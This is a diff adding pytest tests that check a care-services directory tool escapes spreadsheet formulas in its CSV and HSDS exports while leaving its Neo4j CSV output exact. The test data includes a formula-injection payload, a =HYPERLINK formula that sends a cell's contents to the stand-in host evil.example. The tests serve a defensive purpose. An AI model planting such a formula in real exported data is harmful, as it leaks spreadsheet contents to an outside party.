@@ -252,3 +252,51 @@ def test_full_disk_is_one_line(full_disk):
     assert f"no space left on {full_disk}" in result.stderr
     assert not out.exists()
     assert list(full_disk.iterdir()) == []
+
+
+# -- CSV formula injection ------------------------------------------------------------------
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Health visiting")'
+
+
+@pytest.fixture
+def evil_data(tmp_path) -> Path:
+    """The tiny area with a service whose name is a spreadsheet formula."""
+    data = tmp_path / "evil"
+    shutil.copytree(FIXTURES / "tiny", data)
+    area = data / "tiny.yaml"
+    area.write_text(area.read_text(encoding="utf-8").replace(
+        "name: Health visiting", f"name: '{EVIL}'"), encoding="utf-8")
+    return data
+
+
+def test_format_csv_output_neutralises_formulas(evil_data):
+    import csv
+    import io
+
+    result = run_cli("refers", "--to", "tiny-pmh", "--format", "csv", "--data", str(evil_data))
+    assert result.returncode == 0, result.stderr
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    assert "'" + EVIL in cells  # the data is all there, as text...
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)  # ...no formula
+
+
+def test_hsds_services_csv_neutralises_formulas_and_reads_back(evil_data, tmp_path):
+    import csv
+
+    pkg = tmp_path / "pkg"
+    assert run_cli("export", "hsds", str(pkg), "--data", str(evil_data)).returncode == 0
+    with (pkg / "services.csv").open(encoding="utf-8", newline="") as fh:
+        names = [row["name"] for row in csv.DictReader(fh)]
+    assert "'" + EVIL in names
+    assert not any(str(n).startswith(("=", "+", "-", "@")) for n in names)
+    from carepath.standards.hsds import read_hsds
+
+    assert EVIL in [e.name for e in read_hsds(pkg).entries]  # the quote is taken off again
+
+
+def test_neo4j_csv_files_stay_exact(evil_data, tmp_path):
+    # machine-facing: neo4j-admin must read the same text (tests/servers run the real one)
+    out = tmp_path / "neo"
+    assert run_cli("export", "neo4j-csv", str(out), "--data", str(evil_data)).returncode == 0
+    text = (out / "nodes-Service.csv").read_text(encoding="utf-8")
+    assert EVIL.replace('"', '""') in text and "'=HYPERLINK" not in text
